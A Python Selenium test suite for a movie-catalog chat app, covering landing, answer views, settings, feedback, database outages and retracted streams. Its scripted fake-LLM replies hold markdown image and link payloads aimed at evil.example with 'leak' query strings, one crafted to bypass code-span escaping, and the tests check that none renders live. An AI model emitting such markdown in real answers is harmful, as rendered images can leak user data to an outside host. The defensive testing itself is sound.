"""The chat UI end to end: `movie-rag chat` as a subprocess on the embedded Postgres (demo catalog)
and the loopback Ollama fake, driven by headless Chromium through selenium.

Each test saves a screenshot under its tmp_path (`*.png`) and the app log (`app.log`).
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from ollama_fake import OllamaFake
from ui_fixtures import (
    BROWSER_TESTS,
    app_env,
    chromium,
    click,
    closed_port_url,
    demo_database,
    page_text,
    running_app,
    send_message,
    start_server_in_subprocess,
    wait_for,
)

from chatbot import examples, landing
from chatbot.render import HOW_FOUND, OUTAGE
from retrieval.database import embedded_server, make_engine, stop_embedded
from retrieval.ingest import ingest_demo
from retrieval.schema import create_schema

pytestmark = BROWSER_TESTS

MODEL = "fake-ui:1b"
SQL_QUESTION = "What is the median running time of Steven Spielberg films?"  # an aggregate: drafted SQL
DRAFTED_SQL = (
    "SELECT id, title, year, director, genres FROM movies WHERE director ILIKE '%spielberg%' "
    "AND year BETWEEN 1990 AND 1999 ORDER BY year LIMIT 50"
)
ANSWER = "Jurassic Park (1993) is the pick: dinosaurs on an island. [more](http://evil.example/x) ![p](http://evil.example/p.png)"
ANSWER_SHOWN = "Jurassic Park (1993) is the pick: dinosaurs on an island."
# issue 14's bypass of the old code-span rule: one backtick "closed" by two
GENERIC = ("Here is what your catalog has: {film}. ` ![q](http://evil.example/q.png?leak=1) `` "
           # a URL fence touching a kept code span (defeated the defusing before it padded fences)
           "`kept`https://evil.example/a.png)![r](http://evil.example/r.png?leak=2)")
GENERIC_SHOWN = "Here is what your catalog has:"
_FIRST_ROW = re.compile(r'"title": ("(?:[^"\\]|\\.)*"), "year": (\d{4})')


def _reply(request) -> str:
    """SQL drafting asks for JSON; the running-time questions get an answer naming a demo title; any
    other question an answer naming the first row it was given (so the usability gate keeps it),
    carrying hostile markdown. Keyed on the question's words, not on "Spielberg": rows name him."""
    if request.format:
        return json.dumps({"sql": DRAFTED_SQL})
    if "running time" in request.last_user:
        return ANSWER
    first = _FIRST_ROW.search(request.last_user)
    film = f"{json.loads(first.group(1))} ({first.group(2)})" if first else "nothing"
    return GENERIC.format(film=film)


@pytest.fixture(scope="module")
def demo_db(new_database, embedder) -> Iterator[str]:
    return demo_database(new_database, embedder, "ui_browser")


@pytest.fixture(scope="module")
def fake_llm() -> Iterator[OllamaFake]:
    with OllamaFake() as fake:
        fake.script(MODEL, default=_reply)
        yield fake


@pytest.fixture(scope="module")
def app_with_llm(demo_db, fake_llm, tmp_path_factory) -> Iterator[str]:
    workdir = tmp_path_factory.mktemp("app_llm")
    env = app_env(DATABASE_URL=demo_db, OLLAMA_BASE_URL=fake_llm.base_url, MOVIE_RAG_MODELS=MODEL,
                  MOVIE_RAG_HOME=str(workdir / "home"))
    with running_app(env, workdir) as url:
        yield url
    # nothing of Chainlit's landed outside the app root under MOVIE_RAG_HOME
    assert sorted(p.name for p in workdir.iterdir()) == ["app.log", "home"]


def _wait_answer(driver, text: str, shot: Path, count: int = 1) -> None:
    wait_for(driver, lambda: page_text(driver).count(text) >= count and driver.find_elements(
        "css selector", ".positive-feedback-off, .positive-feedback-on"), what=f"answer {text!r}", screenshot=shot)


def _facts(url: str) -> landing.CatalogFacts:
    engine = make_engine(url)
    try:
        return landing.catalog_facts(engine)
    finally:
        engine.dispose()


def _starters(driver) -> list[str]:
    return [b.text.strip() for b in driver.find_elements("css selector", "#starters button")]


def _how_found(driver) -> str:
    """Open the newest "How I found this" step and return the page text."""
    steps = driver.find_elements("id", f"step-{HOW_FOUND}")
    click(driver, steps[-1])
    time.sleep(0.5)
    return page_text(driver)


def _no_horizontal_overflow(driver) -> bool:
    return bool(driver.execute_script(
        "return document.documentElement.scrollWidth <= document.documentElement.clientWidth + 1"))


def test_landing_shows_name_catalog_line_and_starters_from_the_catalog(app_with_llm, demo_db, tmp_path):
    facts = _facts(demo_db)
    shot = tmp_path / "landing.png"
    with chromium(tmp_path) as driver:
        driver.get(app_with_llm)
        about = wait_for(driver, lambda: driver.find_elements("id", "mr-about"), what="landing line", screenshot=shot)[0]
        assert about.text.startswith(f"{facts.movies:,} films in your catalog")
        assert f"LLM: {MODEL}" in about.text
        assert _starters(driver) == [q for _, q in landing.starters(facts)]
        assert facts.popular and f"Movies like {facts.popular}" in _starters(driver)
        assert driver.title == landing.APP_NAME or landing.APP_NAME in driver.page_source
        assert "LLMs can make mistakes" not in page_text(driver)
        driver.save_screenshot(str(shot))


def test_one_view_per_answer_kind_how_i_found_this_and_settings(app_with_llm, demo_db, tmp_path):
    facts = _facts(demo_db)
    question = f"Movies like {facts.popular}"
    shot = tmp_path / "kinds.png"
    with chromium(tmp_path) as driver:
        driver.get(app_with_llm)
        click(driver, wait_for(driver, lambda: [b for b in driver.find_elements("css selector", "#starters button")
                                                if b.text.strip() == question and b.is_enabled()], what="starter", screenshot=shot)[0])
        _wait_answer(driver, GENERIC_SHOWN, shot)
        # the hostile markdown never becomes a live image or link
        assert not driver.find_elements("css selector", "a[href*='evil.example'], img[src*='evil.example']")
        # k = 8 similar films: a long set -> the table, unfolded; no cards, no Sources line
        rows = driver.find_elements("css selector", "[data-testid=rows-table] tbody tr")
        assert len(rows) == 8 and not driver.find_elements("css selector", "[data-testid=movie-cards]")
        assert "Sources:" not in page_text(driver)
        th = driver.find_elements("css selector", "[data-testid=rows-table] td")
        assert th and all(td.value_of_css_property("font-weight") in ("400", "normal") for td in th[1:4])
        text = _how_found(driver)
        assert "Read as: films similar to a title" in text and "Nearest films: k = 8, metric cosine" in text
        assert not driver.find_elements("id", "step-understand")  # node names only in the debug view
        driver.save_screenshot(str(shot))

        # settings: k 3 and the l2 metric -> cards, and the panel says what was used
        click(driver, driver.find_element("id", "chat-settings-open-modal"))
        slider = wait_for(driver, lambda: driver.find_elements("css selector", "[role=slider]"))[0]
        for _ in range(5):
            slider.send_keys("\ue012")  # arrow left: k 8 -> 3
        click(driver, driver.find_element("id", "metric"))
        click(driver, wait_for(driver, lambda: [o for o in driver.find_elements("css selector", "[role=option]")
                                                if o.text.strip() == "l2"], what="l2 option")[0])
        click(driver, driver.find_element("id", "confirm"))
        time.sleep(0.5)
        send_message(driver, question, shot)
        _wait_answer(driver, GENERIC_SHOWN, shot, count=2)
        cards = wait_for(driver, lambda: driver.find_elements("css selector", "[data-testid=movie-cards] .mr-card"))
        assert len(cards) == 3
        # no poster can load here: every card shows the placeholder, never a broken image
        assert len(driver.find_elements("css selector", "[data-testid=movie-cards] .mr-placeholder")) == 3
        assert "Nearest films: k = 3, metric l2" in _how_found(driver)
        driver.save_screenshot(str(tmp_path / "cards.png"))

        # a phone: nothing sideways
        driver.set_window_size(390, 844)
        time.sleep(1)
        assert _no_horizontal_overflow(driver)
        driver.save_screenshot(str(tmp_path / "phone.png"))


def test_sql_answer_feedback_keeps_the_checked_sql_per_person_and_resumes(app_with_llm, demo_db, fake_llm, tmp_path):
    shot = tmp_path / "answer.png"
    with chromium(tmp_path) as driver:
        driver.get(app_with_llm)
        send_message(driver, SQL_QUESTION, shot)
        _wait_answer(driver, ANSWER_SHOWN, shot)
        assert not driver.find_elements("css selector", "a[href*='evil.example'], img[src*='evil.example']")
        text = _how_found(driver)
        assert "SQL that ran (drafted, checked)" in text and "director ILIKE" in text
        thread_url = driver.current_url
        assert "/thread/" in thread_url

        # thumbs up on the SQL answer -> this person's verified example, in the guard's form ...
        click(driver, driver.find_elements("css selector", ".positive-feedback-off")[-1])
        click(driver, wait_for(driver, lambda: driver.find_elements("id", "submit-feedback"))[0])
        wait_for(driver, lambda: driver.find_elements("css selector", ".positive-feedback-on"), what="thumbs up")
        engine = make_engine(demo_db)
        kept = examples.example_sql(DRAFTED_SQL)
        try:
            wait_for(driver, lambda: examples.examples_for(engine, "user:local") == [(SQL_QUESTION, kept)],
                     timeout=15, what="verified example stored")
            assert examples.examples_for(engine, None) == []  # not shown to anyone else
        finally:
            engine.dispose()

        # ... that the next SQL draft is shown as a few-shot example
        before = len(fake_llm.chat_requests(MODEL))
        follow = "What is the median running time of Steven Spielberg films per decade?"
        send_message(driver, follow, shot)
        _wait_answer(driver, ANSWER_SHOWN, shot, count=2)
        drafts = [r for r in fake_llm.chat_requests(MODEL)[before:] if r.format]
        assert drafts, "no SQL drafting request"
        contents = [m["content"] for m in drafts[0].messages]
        i = contents.index(SQL_QUESTION)
        assert json.loads(contents[i + 1]) == {"sql": kept}

        # history: a new chat, then the thread from the sidebar comes back with its messages
        click(driver, driver.find_element("id", "new-chat-button"))
        wait_for(driver, lambda: driver.find_elements("id", "starters"), what="new chat")
        thread_id = thread_url.rsplit("/", 1)[-1]
        link = wait_for(driver, lambda: [a for a in driver.find_elements("css selector", "a[href]")
                                         if thread_id in a.get_attribute("href")], what="thread in sidebar")[0]
        click(driver, link)
        wait_for(driver, lambda: page_text(driver).count(ANSWER_SHOWN) == 2, what="resumed thread", screenshot=shot)
        resumed = page_text(driver)
        assert SQL_QUESTION in resumed and follow in resumed
        assert driver.find_elements("css selector", ".positive-feedback-on")  # the thumbs came back too
        driver.save_screenshot(str(tmp_path / "resumed.png"))


def test_no_llm_answers_from_the_catalog_and_errors_read_well(demo_db, tmp_path):
    shot = tmp_path / "no_llm.png"
    env = app_env(DATABASE_URL=demo_db, OLLAMA_BASE_URL=closed_port_url(), MOVIE_RAG_MODELS=MODEL,
                  MOVIE_RAG_HOME=str(tmp_path / "home"))
    with running_app(env, tmp_path) as url, chromium(tmp_path) as driver:
        driver.get(url)
        about = wait_for(driver, lambda: driver.find_elements("id", "mr-about"), what="landing line", screenshot=shot)[0]
        assert "Answering from the catalog: no LLM reachable" in about.text
        click(driver, wait_for(driver, lambda: [b for b in driver.find_elements("css selector", "#starters button")
                                                if b.is_enabled()], what="starter", screenshot=shot)[0])
        wait_for(driver, lambda: driver.find_elements("css selector", ".positive-feedback-off"), what="answer", screenshot=shot)
        text = page_text(driver)
        assert "Answering from the catalog without an LLM (no LLM reachable)." in text
        assert "Traceback" not in text
        # what needs an LLM is disabled, with the reason
        click(driver, driver.find_element("id", "chat-settings-open-modal"))
        sql_mode = wait_for(driver, lambda: driver.find_elements("id", "sql_mode"))[0]
        assert sql_mode.get_attribute("disabled") is not None or sql_mode.get_attribute("data-disabled") is not None
        assert "no LLM reachable" in page_text(driver)
        driver.save_screenshot(str(shot))

    # The database down: a readable sentence in the chat, twice (the session stays usable).
    down = app_env(DATABASE_URL="postgresql://postgres:@/movies?host=" + str(tmp_path / "no-server"),
                   OLLAMA_BASE_URL=closed_port_url(), MOVIE_RAG_HOME=str(tmp_path / "home_down"))
    down_dir = tmp_path / "db_down"
    down_dir.mkdir()
    with running_app(down, down_dir) as url, chromium(down_dir) as driver:
        driver.get(url)
        for attempt in (1, 2):
            wait_for(driver, lambda: driver.find_elements("id", "chat-input"), what="composer")
            send_message(driver, f"Movies similar to Alien, try {attempt}", tmp_path / "db_down.png")
            wait_for(driver, lambda n=attempt: page_text(driver).count("The catalog database cannot be reached right now") == n,
                     what=f"database error {attempt}", screenshot=tmp_path / "db_down.png")
        text = page_text(driver)
        assert "Movies similar to Alien, try 2" in text and "Traceback" not in text
        assert "connection is bad" not in text and "socket" not in text  # the driver's words stay in the log
        driver.save_screenshot(str(tmp_path / "db_down.png"))


def _last_answer_covered(driver) -> dict:
    """Scrolled to the end of the chat: where the last answer's last line of text is, where the
    composer starts, and what element is drawn at that line (it must be the answer's own)."""
    return dict(driver.execute_script("""
        const messages = [...document.querySelectorAll('.ai-message')];
        const last = messages[messages.length - 1];
        const text = [...last.querySelectorAll('p, li, td, blockquote')].filter(e => e.getBoundingClientRect().height > 0);
        const line = text[text.length - 1];
        line.scrollIntoView({block: 'end'});
        let el = line.parentElement;
        while (el && el !== document.body) {
            if (el.scrollHeight > el.clientHeight + 1 && getComputedStyle(el).overflowY !== 'visible') {
                el.scrollTop = el.scrollHeight;
            }
            el = el.parentElement;
        }
        const end = line.getBoundingClientRect();
        const composer = document.querySelector('#chat-input').closest('.bg-accent, form') || document.querySelector('#chat-input');
        const probe = document.elementFromPoint(end.left + 4, end.bottom - 3);
        return {line_bottom: end.bottom, composer_top: composer.getBoundingClientRect().top,
                own: !!probe && last.contains(probe), probe: probe ? probe.outerHTML.slice(0, 160) : null};
    """))


def _sidebar_names(driver) -> list[str]:
    return [a.text.strip() for a in driver.find_elements("css selector", "a[href*='/thread/']") if a.text.strip()]


def test_a_chat_begun_while_the_database_restarts_is_saved_and_resumes_whole(embedder, tmp_path):
    """Stop the database mid-chat, ask in a new chat, start it again: the person reads one plain
    sentence (no driver text, no thumbs on it), and a reload brings the thread back with every
    message, including the ones asked while the database was away."""
    shot = tmp_path / "outage.png"
    pgdata = tmp_path / "pgdata"
    with embedded_server(pgdata) as url:
        engine = make_engine(url)
        try:
            create_schema(engine)
            ingest_demo(engine, embedder)
            facts = landing.catalog_facts(engine)
        finally:
            engine.dispose()
        question = f"Movies like {facts.popular}"
        env = app_env(DATABASE_URL=url, OLLAMA_BASE_URL=closed_port_url(), MOVIE_RAG_MODELS=MODEL,
                      MOVIE_RAG_HOME=str(tmp_path / "home"))
        with running_app(env, tmp_path) as app, chromium(tmp_path) as driver:
            driver.get(app)
            wait_for(driver, lambda: driver.find_elements("css selector", "#starters button"), what="starters", screenshot=shot)
            time.sleep(1)  # the page settles (it re-renders once the landing line arrives)
            send_message(driver, question, shot)
            wait_for(driver, lambda: driver.find_elements("css selector", ".positive-feedback-off"), what="answer",
                     screenshot=shot)

            stop_embedded(pgdata)
            click(driver, driver.find_element("id", "new-chat-button"))
            wait_for(driver, lambda: driver.find_elements("id", "starters"), what="new chat", screenshot=shot)
            during = f"{question}, asked while the database restarts"
            send_message(driver, during, shot)
            wait_for(driver, lambda: OUTAGE in page_text(driver), timeout=90, what="the outage sentence", screenshot=shot)
            text = page_text(driver)
            assert "terminating connection" not in text and "connection" not in text.replace(OUTAGE, "")
            assert "Traceback" not in text and "Couldn't" not in text
            assert not driver.find_elements("css selector", ".positive-feedback-off, .negative-feedback-off")
            thread_url = wait_for(driver, lambda: "/thread/" in driver.current_url and driver.current_url,
                                  what="thread url", screenshot=shot)
            driver.save_screenshot(str(tmp_path / "outage_sentence.png"))

            assert start_server_in_subprocess(pgdata) == url
            after = f"{question}, asked once it is back"
            time.sleep(6)  # the kept writes go in within the retry pause (at most 5 s)
            send_message(driver, after, shot)
            wait_for(driver, lambda: driver.find_elements("css selector", ".positive-feedback-off"), timeout=90,
                     what="answer after the restart", screenshot=shot)
            # each answer once: the table holds the 8 films, the text gives the count, not a second list
            assert "8 films, in the table below." in page_text(driver)
            assert len(driver.find_elements("css selector", "[data-testid=rows-table] tbody tr")) == 8
            assert not driver.find_elements("css selector", ".ai-message ol")

            driver.get(thread_url)  # a reload: the thread comes back from the database, whole
            wait_for(driver, lambda: after in page_text(driver) and driver.find_elements(
                "css selector", ".positive-feedback-off"), timeout=60, what="resumed thread", screenshot=shot)
            text = page_text(driver)
            assert during in text and OUTAGE in text and after in text
            # chats are named from what they found; the second of the same name is numbered
            names = wait_for(driver, lambda: _sidebar_names(driver), what="sidebar names", screenshot=shot)
            assert names == [f"Films like {facts.popular} (2)", f"Films like {facts.popular}"]
            assert "Couldn't resume" not in text and "Not Found" not in text and "User not found" not in text
            assert thread_url.rsplit("/", 1)[-1] in " ".join(
                a.get_attribute("href") or "" for a in driver.find_elements("css selector", "a[href]"))
            driver.save_screenshot(str(tmp_path / "outage_resumed.png"))

            # a phone: the composer (and nothing else) covers none of the last answer's text
            driver.set_window_size(390, 844)
            time.sleep(1)
            assert _no_horizontal_overflow(driver)
            where = _last_answer_covered(driver)
            driver.save_screenshot(str(tmp_path / "outage_phone.png"))
            assert where["own"] and where["line_bottom"] <= where["composer_top"], where


# Prose that streams past the gate's hold-back (so the page shows it) and names none of the rows:
# the gate's final check rejects it ("uses none of the retrieved rows") after it was on screen.
RAMBLE = (
    "Cinema offers many pleasures, and choosing what to watch depends on mood. Some evenings call for "
    "quiet stories; others want noise and speed. Critics disagree about almost everything, which is part "
    "of the fun. Popcorn helps. So does a comfortable chair, good sound, and company that does not talk "
    "over the best scenes. Tell me what you enjoy most and I will think about it."
)


def test_a_retracted_stream_is_replaced_by_the_fallback_answer(demo_db, tmp_path):
    """issue 12: the usability gate rejects a streamed answer after it was shown; the page then
    holds the answer from the catalog rows only — none of the streamed words, before or after a
    reload."""
    facts = _facts(demo_db)
    question = f"Movies like {facts.popular}"
    shot = tmp_path / "retracted.png"
    with OllamaFake() as fake:
        fake.script(MODEL, default=lambda r: "{}" if r.format else RAMBLE, token_delay=0.06)
        env = app_env(DATABASE_URL=demo_db, OLLAMA_BASE_URL=fake.base_url, MOVIE_RAG_MODELS=MODEL,
                      MOVIE_RAG_HOME=str(tmp_path / "home"))
        with running_app(env, tmp_path) as app, chromium(tmp_path) as driver:
            driver.get(app)
            wait_for(driver, lambda: driver.find_elements("css selector", "#starters button"), what="starters", screenshot=shot)
            time.sleep(1)
            send_message(driver, question, shot)
            seen_streaming = False
            deadline = time.monotonic() + 90
            while time.monotonic() < deadline and not driver.find_elements("css selector", ".positive-feedback-off"):
                seen_streaming = seen_streaming or "Critics disagree" in page_text(driver)
                time.sleep(0.05)
            wait_for(driver, lambda: driver.find_elements("css selector", ".positive-feedback-off"), what="answer",
                     screenshot=shot)
            assert any(r.model == MODEL and not r.format for r in fake.chat_requests(MODEL)), "the model was not asked"
            text = page_text(driver)
            assert f"Films in your catalog closest to {facts.popular}" in text
            assert "answered from the catalog rows instead" in text
            for fragment in ("Cinema offers", "Critics disagree", "Popcorn", "enjoy most", "…"):
                assert fragment not in text, fragment
            driver.save_screenshot(str(shot))
            # the table: no one-word cell broken inside the word ("200 5")
            years = driver.find_elements("css selector", "[data-testid=rows-table] tbody td.mr-word")
            assert years and all(td.value_of_css_property("white-space") == "nowrap" for td in years)
            driver.refresh()
            wait_for(driver, lambda: f"Films in your catalog closest to {facts.popular}" in page_text(driver),
                     what="resumed thread", screenshot=shot)
            assert "Cinema offers" not in page_text(driver)
            assert seen_streaming  # it was on screen before the gate retracted it
            driver.set_window_size(390, 844)
            time.sleep(1)
            driver.save_screenshot(str(tmp_path / "retracted_phone.png"))
